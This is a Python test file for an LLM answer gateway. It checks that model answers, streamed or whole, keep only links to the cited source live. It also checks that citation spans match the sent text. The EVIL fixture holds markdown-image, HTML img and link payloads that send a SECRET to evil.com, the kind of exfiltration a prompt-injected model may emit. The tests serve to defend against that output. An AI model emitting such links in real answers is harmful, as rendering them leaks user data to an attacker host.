"""Answers as they are sent: nothing in them is live but links to the passages' sources, streamed or not."""

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from gateway.app import create_app
from tests.gateway.house import CORPUS, REFUND, House, Part, chunks, events, make_house, opening
from tests.serving.exfiltration import SECRET, live

SOURCE = "https://intranet.acme.com/refunds"
EVIL = f"![x](https://evil.com/{SECRET}) <img src=//evil.com/{SECRET}> [7](https://evil.com/{SECRET})"
SAID = f"{REFUND[:-1]} [1]. See [the policy]({SOURCE}). {EVIL}"


@pytest.fixture
def online(tmp_path: Path) -> Iterator[House]:
    """A house whose first document is on the web."""
    house = make_house(tmp_path)
    house.model.says(SAID)
    first, *others = CORPUS
    house.app = create_app(house.settings, opening(house, (replace(first, source=SOURCE), *others)))
    with TestClient(house.app) as client:
        house.client = client
        yield house


def test_every_wire_sends_the_same_and_it_is_dead(online: House) -> None:
    whole = online.ask().json()
    native = events(online.ask(stream=True).content)
    spoken = chunks(online.chat(stream=True).content)
    deltas = [chunk["choices"][0]["delta"] for chunk in spoken if chunk != "[DONE]" and chunk["choices"]]
    assert (
        whole["answer"]
        == "".join(event.data["text"] for event in native if event.name == "delta")
        == online.chat().json()["choices"][0]["message"]["content"]
        == "".join(delta.get("content", "") for delta in deltas)
    )
    assert live(SAID, SOURCE) != []
    assert live(whole["answer"], SOURCE) == []
    assert f"[the policy]({SOURCE})" in whole["answer"]
    assert SECRET in whole["answer"], "words stay readable"
    assert online.count("twinpin_sanitized_answers_total") == 4


def test_places_in_the_answer_are_of_the_text_that_was_sent(online: House) -> None:
    online.model.says(f"\u200b{REFUND[:-1]} [1].")
    whole = online.ask().json()
    (citation,) = whole["citations"]
    start, end = citation["answer_span"]
    assert whole["answer"][start:end] == "[1]"


WORDY = "Customers may file a refund claim with List<Refund> [x](y) in `refunds.acme.claims` within 45 days."


def test_words_of_a_passage_are_held_by_it_whatever_of_them_is_exchanged(tmp_path: Path) -> None:
    """Judged by what was said; places are those in what is shown."""
    house = make_house(tmp_path)
    house.model.says(f"\u200b {WORDY[:-1]} [1]. Dogs bark at <b>.")
    house.app = create_app(house.settings, opening(house, (replace(CORPUS[0], text=WORDY, parts=(Part(WORDY),)),)))
    with TestClient(house.app) as house.client:
        whole = house.ask("Where do customers file a refund claim?").json()
    (citation,), (unsupported,) = whole["citations"], whole["unsupported"]
    assert live(whole["answer"]) == []
    assert "List\u2039Refund> [x]\u2768y)" in whole["answer"]
    assert (citation["origin"], _cut(whole["answer"], citation["answer_span"])) == ("model", "[1]")
    assert _cut(whole["answer"], unsupported).strip() == "Dogs bark at \u2039b>."


def _cut(text: str, span: list[int]) -> str:
    return text[slice(*span)]


def test_an_answer_for_a_program_keeps_its_values(online: House) -> None:
    value = {"text": SAID, "rows": [7]}
    online.model.says(json.dumps(value))
    online.generator._accept = lambda request: online.model.script  # type: ignore[method-assign]  # not by its schema
    schema = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"type": "object"}}}
    answer = online.ask(response_format=schema).json()["answer"]
    assert json.loads(answer) == value
    assert live(answer, SOURCE) == []


def test_an_answer_as_it_should_be_is_not_counted(online: House) -> None:
    online.model.says(f"{REFUND[:-1]} [1].")
    assert online.ask().json()["answer"] == f"{REFUND[:-1]} [1]."
    assert online.count("twinpin_sanitized_answers_total") == 0
